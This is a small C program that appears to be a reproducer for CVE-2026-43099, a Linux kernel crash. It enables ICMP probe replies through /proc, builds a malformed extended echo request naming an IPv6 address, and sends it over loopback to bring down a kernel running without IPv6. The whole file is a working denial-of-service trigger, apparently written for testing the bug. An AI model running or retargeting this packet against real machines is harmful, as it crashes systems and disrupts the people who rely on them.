// SPDX-License-Identifier: GPL-2.0-or-later
//
// CVE-2026-43099: an ICMP extended echo request that asks for an interface by its IPv6 address, to a
// kernel without IPv6 (ipv6.disable=1). The kernel takes an error for a device, and dies. Sends one
// to this machine itself.
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static unsigned short checksum(const unsigned char *data, int size)
{
	unsigned int sum = 0;
	int i;

	for (i = 0; i < size; i += 2)
		sum += data[i] << 8 | data[i + 1];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons(~sum);
}

int main(void)
{
	/* type 42, L bit; extension version 2; object: 24 bytes, class 3, type 3, IPv6, 16 bytes. */
	unsigned char request[36] = { [0] = 42, [7] = 1, [8] = 0x20, [13] = 24, [14] = 3, [15] = 3,
				      [17] = 2, [18] = 16, [20] = 0xfe, [21] = 0x80, [35] = 1 };
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	int enable = open("/proc/sys/net/ipv4/icmp_echo_enable_probe", O_WRONLY);
	int s = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
	unsigned short sum;

	if (enable < 0 || write(enable, "1", 1) != 1 || s < 0)
		return 2;
	sum = checksum(request + 8, 28);
	memcpy(request + 10, &sum, 2);
	sum = checksum(request, sizeof(request));
	memcpy(request + 2, &sum, 2);
	if (sendto(s, request, sizeof(request), 0, (struct sockaddr *)&to, sizeof(to)) != sizeof(request))
		return 2;
	printf("the kernel lives\n");
	return 0;
}
